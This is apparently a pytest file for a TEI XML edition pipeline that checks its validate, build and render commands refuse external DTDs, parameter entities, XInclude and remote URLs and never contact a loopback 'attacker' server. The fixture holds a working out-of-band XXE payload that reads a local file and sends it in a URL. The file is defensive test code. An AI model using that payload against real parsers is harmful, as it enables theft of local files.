"""No external fetch, ever, and no validator that silently passes.

A loopback HTTP server stands in for an attacker's: every request it receives is recorded, and
each test of hostile input (an external DTD, parameter entities, XInclude, URLs in figures, links,
styles and a project's own print template) asserts that it received none, whatever the command
(``edition validate``, ``build``, ``render``) and whatever tool reads the file after the parser
(jing, Pandoc, Typst). A validator that cannot run (no jing, no JVM, a hang) is an error with
exit status 2, never a pass.
"""
from __future__ import annotations

import http.server
import shutil
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from conftest import copy_project, render_with_project_file, run_in_process
from pipeline import jing, tei

ANNOTATIONS = Path("tei") / "annotations" / "korean-war.xml"
SCHEMA = "not valid against pipeline/schemas/annotations.rng: "


class Recorder(http.server.BaseHTTPRequestHandler):
    """Answers every request with an out-of-band XXE payload and records it."""

    def do_GET(self) -> None:  # noqa: N802 (the name http.server calls)
        self.server.requests.append(f"{self.command} {self.path}")
        body = self.server.payload.encode("utf-8")
        self.send_response(200)
        self.send_header("Content-Type", "application/xml-dtd")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_HEAD = do_GET

    def log_message(self, *args) -> None:
        pass


class Server:
    """The loopback server: its base URL and the requests it received."""

    def __init__(self, secret: Path) -> None:
        self.http = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
        self.url = f"http://127.0.0.1:{self.http.server_address[1]}"
        self.http.requests = []
        # the classic out-of-band exfiltration: read a local file, send it back in a URL
        self.http.payload = (f'<!ENTITY % secret SYSTEM "file://{secret}">\n'
                             f'<!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM \'{self.url}/leak?%secret;\'>">\n'
                             "%wrap;\n%send;\n")

    @property
    def requests(self) -> list[str]:
        return self.http.requests


@pytest.fixture
def server(tmp_path) -> Iterator[Server]:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT", encoding="utf-8")
    started = Server(secret)
    thread = threading.Thread(target=started.http.serve_forever, daemon=True)
    thread.start()
    yield started
    started.http.shutdown()
    started.http.server_close()
    thread.join()


def edit(path: Path, *replacements: tuple[str, str]) -> None:
    text = path.read_text(encoding="utf-8")
    for old, new in replacements:
        assert old in text, old
        text = text.replace(old, new, 1)
    path.write_text(text, encoding="utf-8")


def hostile_annotations(project: Path, doctype: str) -> Path:
    """The project's annotation file with ``doctype`` before its root and one invalid motivation."""
    path = project / ANNOTATIONS
    edit(path, ("<TEI ", f"{doctype}\n<TEI "), ('motivation="commenting"', 'motivation="opining"'))
    return path


def tei_file(folder: Path, body: str, prolog: str = "", name: str = "doc.xml") -> Path:
    """A small TEI document, valid against tei_all when ``body`` is."""
    path = folder / name
    path.write_text(f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}'
                    '<TEI xmlns="http://www.tei-c.org/ns/1.0" xmlns:xi="http://www.w3.org/2001/XInclude"'
                    ' xml:id="doc" xml:lang="zh-Hant">\n'
                    "  <teiHeader><fileDesc><titleStmt><title>測試</title></titleStmt>"
                    "<publicationStmt><p>測試</p></publicationStmt><sourceDesc><p>測試</p></sourceDesc>"
                    "</fileDesc></teiHeader>\n"
                    f"  <text><body>\n{body}\n  </body></text>\n</TEI>\n", encoding="utf-8")
    return path


def external_dtd(url: str) -> str:
    return (f'external DTD refused (<!DOCTYPE TEI SYSTEM "{url}">): an edition\'s XML is checked against '
            "the project's schemas, never against a DTD it names; delete the DOCTYPE")


# --- an external DTD, parameter entities, XInclude -----------------------------------------------

def test_validate_of_an_annotation_file_naming_an_external_dtd_fetches_nothing(tmp_path, server):
    project = copy_project(tmp_path / "project")
    path = hostile_annotations(project, f'<!DOCTYPE TEI SYSTEM "{server.url}/evil.dtd">')
    result = run_in_process("validate", str(path), "--project", str(project))
    assert (result.returncode, result.stderr) == (1, f"edition: error: {path}:2: {external_dtd(server.url + '/evil.dtd')}\n")
    assert server.requests == []


@pytest.mark.slow  # a build
def test_build_with_an_annotation_file_naming_an_external_dtd_fetches_nothing(tmp_path, server):
    project = copy_project(tmp_path / "project")
    path = hostile_annotations(project, f'<!DOCTYPE TEI SYSTEM "{server.url}/evil.dtd">')
    before = (project / "tei" / "korean-war.xml").read_bytes()
    result = run_in_process("build", "korean-war", "--formats", "tei", "--project", str(project))
    assert result.returncode == 1
    assert f"edition: error: {path}:2: {external_dtd(server.url + '/evil.dtd')}\n" in result.stderr
    assert "TOP-SECRET" not in result.stderr + result.stdout
    assert (project / "tei" / "korean-war.xml").read_bytes() == before
    assert server.requests == []


def test_parameter_entities_are_refused_and_never_fetched(tmp_path, server):
    project = copy_project(tmp_path / "project")
    path = hostile_annotations(project, f'<!DOCTYPE TEI [\n<!ENTITY % remote SYSTEM "{server.url}/pe.dtd">\n'
                                        "%remote;\n]>")
    result = run_in_process("validate", str(path), "--project", str(project))
    assert (result.returncode, result.stderr) == (1, (
        f"edition: error: {path}:3: entity declaration 'remote' (external, {server.url}/pe.dtd) refused: "
        "annotation files may not declare entities; write the characters themselves\n"))
    assert server.requests == []


def test_an_annotation_file_with_xinclude_or_a_public_dtd_fetches_nothing(tmp_path, server):
    project = copy_project(tmp_path / "project")
    path = hostile_annotations(project, f'<!DOCTYPE TEI PUBLIC "-//TEI//DTD TEI P5//EN" "{server.url}/tei.dtd">')
    edit(path, ("<note>", f'<note><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{server.url}/n.txt" '
                          'parse="text"/>'))
    result = run_in_process("validate", str(path), "--project", str(project))
    assert (result.returncode, result.stderr) == (1, (
        f'edition: error: {path}:2: external DTD refused (<!DOCTYPE TEI PUBLIC "-//TEI//DTD TEI P5//EN" '
        f'"{server.url}/tei.dtd">): an edition\'s XML is checked against the project\'s schemas, never against a '
        "DTD it names; delete the DOCTYPE\n"
        f'edition: error: {path}:22: XInclude refused (<xi:include href="{server.url}/n.txt">): an edition\'s XML '
        "never includes other files; copy the text in\n"))
    assert server.requests == []


def test_validate_of_a_tei_file_with_xinclude_fetches_nothing_and_is_not_valid(tmp_path, server):
    path = tei_file(tmp_path, f'    <p>前文</p>\n    <xi:include href="{server.url}/x" parse="text"/>')
    result = run_in_process("validate", str(path))
    assert (result.returncode, result.stderr) == (1, (
        f'edition: error: {path}:6: XInclude refused (<xi:include href="{server.url}/x">): an edition\'s XML '
        "never includes other files; copy the text in\n"))
    assert server.requests == []


def test_validate_of_a_tei_file_naming_an_external_dtd_fetches_nothing(tmp_path, server):
    path = tei_file(tmp_path, "    <p>正文</p>", prolog=f'<!DOCTYPE TEI SYSTEM "{server.url}/tei.dtd">\n')
    for args in (("validate", str(path)), ("render", str(path), "--to", "html", "-o", str(tmp_path / "out"))):
        result = run_in_process(*args)
        assert (result.returncode, result.stderr) == (1, f"edition: error: {path}:2: {external_dtd(server.url + '/tei.dtd')}\n")
    assert server.requests == []


def test_a_bare_doctype_is_harmless_and_accepted(tmp_path):
    path = tei_file(tmp_path, "    <p>正文</p>", prolog="<!DOCTYPE TEI>\n")
    result = run_in_process("validate", str(path))
    assert result.returncode == 0, result.stderr
    assert result.stderr.endswith("1 file(s) valid (TEI P5 tei_all; annotation files also against "
                                  "pipeline/schemas/annotations.rng and their edition)\n")


# --- jing reads a serialization of the parsed tree, and its lines are the user's -----------------

def test_jing_problems_point_at_the_lines_of_the_users_file(tmp_path):
    body = ("    <!-- a comment\n         over two lines -->\n"
            "    <p>一行\n二行&#10;同一行</p>\n"
            '    <table\n       rows="many"><row><cell>三</cell></row></table>\n'
            "    <list>\n      <item>四</item>\n    </list>")
    path = tei_file(tmp_path, body, prolog="<!-- before the root -->\n\n")
    edit(path, ("<sourceDesc><p>測試</p></sourceDesc>", ""))
    result = run_in_process("validate", str(path))
    assert (result.returncode, result.stderr) == (1, (
        f'edition: error: {path}:5: element "fileDesc" incomplete; missing required element "sourceDesc"\n'
        f'edition: error: {path}:12: value of attribute "rows" is invalid; must be an integer\n'))


def test_annotation_schema_problems_keep_their_lines_and_wording(tmp_path):
    project = copy_project(tmp_path / "project")
    path = project / ANNOTATIONS
    edit(path, ('motivation="commenting"', 'motivation="opining"'))
    result = run_in_process("validate", str(path), "--project", str(project))
    assert (result.returncode, result.stderr) == (1, (
        f'edition: error: {path}:19: {SCHEMA}value of attribute "motivation" is invalid; token "opining" invalid; '
        'must be equal to "assessing", "bookmarking", "classifying", "commenting", "describing", "editing", '
        '"highlighting", "identifying", "linking", "moderating", "questioning", "replying" or "tagging"\n'))


# --- what Pandoc and Typst read --------------------------------------------------------------------

HOSTILE_BODY = """    <p rend="background:url({url}/rend.png)" style="background-image:url({url}/style.png)">圖<graphic url="{url}/inline.svg"/>文<ref target="{url}/link">連結</ref></p>
    <figure><graphic url="{url}/figure.svg"/><head>圖一</head></figure>"""


@pytest.mark.slow  # renders a PDF and an EPUB
@pytest.mark.parametrize("fmt", ["pdf", "epub"])
def test_urls_in_a_tei_file_are_never_fetched_by_the_renderers(tmp_path, server, fmt):
    path = tei_file(tmp_path, HOSTILE_BODY.format(url=server.url))
    result = run_in_process("render", str(path), "--to", fmt, "-o", str(tmp_path / "out"))
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "out" / f"doc.{fmt}").stat().st_size > 0
    assert server.requests == []


@pytest.mark.slow  # renders a PDF
def test_a_project_typst_template_cannot_make_typst_fetch(tmp_path, server):
    # Typst reads files only (a URL is a file name to it), and would download nothing but packages
    path = tei_file(tmp_path, "    <p>正文</p>")
    result, template = render_with_project_file(tmp_path, path, "pdf", "templates/typst/book.typ",
                                                f'#import "@preview/cetz:0.3.0"\n#image("{server.url}/paper.png")\n')
    assert result.returncode == 1
    assert result.stderr == (f"edition: error: {template}: typst: a PDF uses only the files of its typst templates, "
                             "not Typst packages (@namespace/name)\n")
    result, template = render_with_project_file(tmp_path, path, "pdf", "templates/typst/book.typ",
                                                f'#image("{server.url}/paper.png")\n')
    assert result.returncode == 1 and f"{template}: typst: file not found" in result.stderr
    assert server.requests == []


# --- a validator that cannot run is an error, never a pass ---------------------------------------

def fake_jing(folder: Path, script: str | None) -> Path:
    """A folder (for PATH) holding only a ``jing`` that runs ``script``, or nothing when it is None."""
    folder.mkdir()
    if script is not None:
        (folder / "jing").write_text(f"#!/bin/sh\n{script}\n", encoding="utf-8")
        (folder / "jing").chmod(0o755)
    return folder


def invalid_tei(tmp_path: Path) -> Path:
    return tei_file(tmp_path, '    <table rows="many"><row><cell>正文</cell></row></table>')


def test_validate_without_a_jvm_is_an_error(tmp_path, monkeypatch):
    path = invalid_tei(tmp_path)
    monkeypatch.setenv("JAVA_HOME", str(tmp_path / "no-jvm"))  # what the Debian wrapper runs
    result = run_in_process("validate", str(path))
    assert result.returncode == 2
    assert result.stderr.startswith(f"edition: error: {path}: cannot validate: jing exited with status 127: ")
    assert result.stderr.endswith(f"{tmp_path}/no-jvm/bin/java: not found\n") and result.stderr.count("\n") == 1


#: a jing that cannot validate (the script it runs; None: no jing at all) → the reason given
CANNOT_RUN = {
    "fails without a report": ('echo "[warning] jing: noise" >&2\necho "java: not found" >&2\nexit 127',
                               "jing exited with status 127: java: not found"),
    "reports on another file": ('echo "$1:1:1: error: schema broken"\nexit 1',
                                f"jing exited with status 1: {tei.TEI_ALL}:1:1: error: schema broken"),
    "hangs": (f"exec {shutil.which('sleep')} 60", "jing did not finish within 1 seconds"),
    "is not installed": (None, "jing is not installed (the Debian package 'jing', which 'make edition' installs)"),
}


@pytest.mark.parametrize("case", CANNOT_RUN)
def test_validate_when_jing_cannot_run_is_an_error(tmp_path, monkeypatch, case):
    script, reason = CANNOT_RUN[case]
    path = invalid_tei(tmp_path)
    monkeypatch.setenv("PATH", str(fake_jing(tmp_path / "bin", script)))
    monkeypatch.setattr(jing, "JING_TIMEOUT", 1)
    result = run_in_process("validate", str(path))
    assert (result.returncode, result.stderr) == (2, f"edition: error: {path}: cannot validate: {reason}\n")


def test_an_invalid_annotation_file_stays_invalid_when_jing_cannot_run(tmp_path, monkeypatch):
    """lxml decides an annotation file's validity; jing only words the problems, libxml2 when it cannot."""
    project = copy_project(tmp_path / "project")
    path = project / ANNOTATIONS
    edit(path, ('motivation="commenting"', 'motivation="opining"'))
    monkeypatch.setenv("JAVA_HOME", str(tmp_path / "no-jvm"))
    result = run_in_process("validate", str(path), "--project", str(project))
    assert (result.returncode, result.stderr) == (1, (
        f"edition: error: {path}:19: {SCHEMA}Element annotation failed to validate attributes\n"))
